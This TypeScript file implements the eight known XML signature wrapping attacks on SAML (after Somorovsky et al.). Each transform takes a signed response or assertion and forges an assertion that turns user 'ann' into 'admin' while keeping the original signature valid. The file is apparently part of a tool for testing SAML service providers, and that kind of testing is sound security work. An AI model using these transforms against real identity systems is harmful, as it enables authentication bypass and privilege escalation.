const assertionPattern = /<saml:Assertion .*<\/saml:Assertion>/s;
const signaturePattern = /<Signature.*<\/Signature>/s;

/** The eight ways to hide a forged element beside the signed one. Source: Somorovsky et al., "On Breaking SAML", 2012. */
export interface Wrapping {
  /** What the provider has signed. */
  readonly signs: "Response" | "Assertion";
  wrap(xml: string): string;
}

const forged = (xml: string): string =>
  xml
    .replace('ID="_assertion"', 'ID="_forged"')
    .replace('ID="_response"', 'ID="_forged-response"')
    .replace(">ann<", ">admin<");

const unsigned = (xml: string): string => xml.replace(signaturePattern, "");

/** Replaces the signed response by a forged one, with the original and its signature somewhere inside. */
const ofResponse = (place: (original: string, signature: string) => string): Wrapping => ({
  signs: "Response",
  wrap: (xml) => {
    const signature = signaturePattern.exec(xml)![0];
    const original = unsigned(xml);
    return forged(original).replace(
      "<samlp:Status>",
      `${place(original, signature)}<samlp:Status>`,
    );
  },
});

/** Replaces the signed assertion by other ones. */
const ofAssertion = (place: (signed: string) => string): Wrapping => ({
  signs: "Assertion",
  wrap: (xml) => {
    const signed = assertionPattern.exec(xml)![0];
    return xml.replace(signed, () => place(signed));
  },
});

/** The signature of an assertion, with more in it. */
const signatureWith = (signed: string, content: string): string =>
  signaturePattern.exec(signed)![0].replace("</Signature>", `${content}</Signature>`);

export const wrappings: Readonly<Record<string, Wrapping>> = {
  "the response within its signature (1)": ofResponse((original, signature) =>
    signature.replace("</Signature>", `${original}</Signature>`),
  ),
  "the response before its signature (2)": ofResponse(
    (original, signature) => `${original}${signature}`,
  ),
  "a forged assertion before the signed one (3)": ofAssertion(
    (signed) => `${forged(unsigned(signed))}${signed}`,
  ),
  "the signed assertion within the forged one (4)": ofAssertion((signed) =>
    forged(unsigned(signed)).replace("</saml:Assertion>", `${signed}</saml:Assertion>`),
  ),
  "the original after the forged one, which has the signature (5)": ofAssertion(
    (signed) => `${forged(signed)}${unsigned(signed)}`,
  ),
  "the original within the signature of the forged one (6)": ofAssertion((signed) =>
    forged(signed).replace(signaturePattern, () => signatureWith(signed, unsigned(signed))),
  ),
  "a forged assertion in extensions (7)": ofAssertion(
    (signed) => `<samlp:Extensions>${forged(unsigned(signed))}</samlp:Extensions>${signed}`,
  ),
  "the original in an object of the forged one's signature (8)": ofAssertion((signed) =>
    forged(signed).replace(signaturePattern, () =>
      signatureWith(signed, `<Object>${unsigned(signed)}</Object>`),
    ),
  ),
};
